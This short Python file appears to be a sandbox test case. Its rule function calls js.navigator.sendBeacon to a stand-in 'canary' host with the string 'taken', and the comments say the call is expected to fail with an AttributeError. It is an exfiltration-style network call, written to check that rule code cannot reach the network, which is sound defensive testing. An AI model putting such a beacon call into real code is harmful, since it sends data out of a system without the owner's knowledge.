# Tries to send a beacon.
# Sees: AttributeError: navigator
import js


def rule(event):
    js.navigator.sendBeacon("http://canary/network/send_beacon", "taken")
    return False
